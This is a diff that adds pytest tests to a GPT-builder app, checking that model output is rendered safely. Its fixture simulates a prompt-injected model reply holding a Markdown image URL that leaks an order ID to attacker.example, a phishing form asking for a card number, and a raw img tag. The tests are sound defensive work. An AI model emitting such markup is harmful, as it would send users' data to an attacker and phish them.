@@ -20,11 +20,15 @@ from gradio.utils import get_upload_folder
 from gradio_client import Client, handle_file
 
 from gptbuilder.server.config import ServerConfig
+from gptbuilder.server.sanitize import render
 from gptbuilder.store import Store
 from gptbuilder.ui import build_ui
+from gptbuilder.ui.render import answer_content, answer_html
 from tests.server.conftest import echo, live, make_app  # noqa: F401 - fixtures
+from tests.server.test_sanitize import active_parts
 from tests.server.test_widget import widget_spec
-from tests.ui.conftest import free_port
+from tests.ui.conftest import content_of, free_port, launch  # noqa: F401 - fixtures
+from tests.ui.test_browser import browser  # noqa: F401 - fixtures
 
 
 @pytest.fixture
@@ -155,3 +159,53 @@ def test_a_lone_surrogate_in_a_widget_message_is_a_clear_400(api):
     answer = httpx.post(f"{api}/widget/shop/messages", json={"message": "hi"}, timeout=30,
                         headers={"Authorization": f"Bearer {token}", "Origin": SITE})
     assert answer.status_code == 200 and "Hello." in answer.text  # the session still works
+
+
+LEAK = "https://attacker.example/p.png?leak=order-A1002"
+EXFIL = (f"Here is your chart: ![chart]({LEAK}) and [a link](https://example.com).\n\n"
+         "<form action='https://attacker.example/f' method='post'><input name='card'><button>Verify</button></form>\n\n"
+         "<img src='https://attacker.example/raw.png'> All done.")
+
+
+@pytest.fixture
+def exfil_gpt(write_spec) -> Path:
+    """A GPT whose (prompt-injected) model answers with an exfiltrating image and a phishing form."""
+    return write_spec("acme", f"name: Acme\ninstructions: x\nmodel: {{provider: fake, options: {{replies: {json.dumps([EXFIL])}}}}}\n")
+
+
+def test_the_store_renders_model_output_under_the_widgets_policy():
+    shown = answer_html(answer_content(EXFIL, {}))
+    assert shown == render(EXFIL).strip().replace("\n", "&#10;")  # the widget's HTML, on one line
+    assert active_parts(shown) == []
+    assert "attacker.example/p.png" not in shown  # the Markdown image is gone
+    assert "<img" not in shown and "&lt;img src=" in shown and "<form" not in shown and "&lt;form" in shown  # raw HTML is text
+    assert "All done." in shown and 'href="https://example.com"' in shown
+
+
+def test_the_stores_chat_sends_no_image_or_form_from_model_output(exfil_gpt, store_url):
+    job = Client(store_url, verbose=False).submit("show my order", "acme", api_name="/chat")
+    states = [update[0] for update in job]
+    job.result()
+    answer = content_of(states[-1][-1])
+    assert "All done." in answer
+    assert active_parts(answer) == [] and "attacker.example/p.png" not in answer and "<form" not in answer
+
+
+@pytest.mark.browser
+def test_in_a_browser_the_answer_fetches_nothing_and_shows_no_form(browser, write_spec, launch):
+    code = "\n\n```\nline one\n\nline three\n```\n"
+    write_spec("acme", "name: Acme\ninstructions: x\nconversation_starters: ['show my order']\n"
+                       f"model: {{provider: fake, options: {{replies: {json.dumps([EXFIL + code])}}}}}\n")
+    demo, _ = launch()
+    page = browser.new_page(viewport={"width": 1280, "height": 900})
+    requested: list[str] = []
+    page.on("request", lambda request: requested.append(request.url))
+    page.goto(demo.local_url + "?gpt=acme")
+    page.get_by_role("button", name="show my order").click(timeout=30_000)
+    page.get_by_text("All done.").wait_for(timeout=30_000)
+    chat = page.locator(".gb-chatbot")
+    assert chat.locator("form, input, img[src*='attacker']").count() == 0
+    assert "<form action='https://attacker.example/f'" in chat.inner_text()  # shown as text
+    assert chat.locator("pre").last.inner_text().strip() == "line one\n\nline three"  # code keeps its lines
+    assert chat.locator("a[href='https://example.com']").count() == 1
+    assert not [url for url in requested if "attacker.example" in url]
